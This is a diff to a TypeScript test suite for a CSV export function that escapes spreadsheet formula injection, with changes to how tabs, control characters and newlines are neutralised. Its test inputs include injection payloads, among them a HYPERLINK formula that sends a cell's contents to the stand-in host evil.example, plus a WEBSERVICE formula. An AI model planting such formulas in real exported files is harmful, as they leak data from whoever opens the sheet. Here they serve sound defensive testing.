@@ -10,7 +10,7 @@ async function lineOf(cell: Cell): Promise<string> {
   return text.slice(1).replace(/\r\n$/, '')
 }
 
-it.each(['=1+1', '+966551234567', '-2', '@SUM(A1)', ' =1', '\u00a0=1', '\u0001=1', '＝1', '＠x'])(
+it.each(['=1+1', '+966551234567', '-2', '@SUM(A1)', ' =1', '\u00a0=1', '＝1', '＠x'])(
   'makes text of %j, which a spreadsheet would run',
   async (text) => {
     expect(await lineOf(text)).toBe(`"'${text}"`)
@@ -21,7 +21,8 @@ it.each([
   ['x;=1+1', `"x;'=1+1"`],
   ['x; =1+1', `"x;' =1+1"`],
   ['x|@SUM(A1)', `"x|'@SUM(A1)"`],
-  ['x\t=1+1', `"x\t'=1+1"`],
+  ['x\t=1+1', '"x =1+1"'],
+  ['x;"=1+1', `"x;'""=1+1"`],
   ['A;=HYPERLINK("http://evil.example/?"&B1;"open")', `"A;'=HYPERLINK(""http://evil.example/?""&B1;""open"")"`],
   ['=a;-b;＝c', `"'=a;'-b;'＝c"`],
   ['a;b|c', '"a;b|c"'],
@@ -30,9 +31,11 @@ it.each([
 })
 
 it.each([
-  ['\t=1', `"'\t'=1"`],
-  ['\tx', `"'\tx"`],
-  ['\r=1', `"'\r=1"`],
+  ['\u0001=1', `"' =1"`],
+  ['\t=1', `"' =1"`],
+  ['\tx', '" x"'],
+  ['\r\n=1', `"' =1"`],
+  [`x\n=WEBSERVICE(1);'`, `"x =WEBSERVICE(1);'"`],
   ['a,b', '"a,b"'],
   ['say "x"', '"say ""x"""'],
   ['a = b', '"a = b"'],
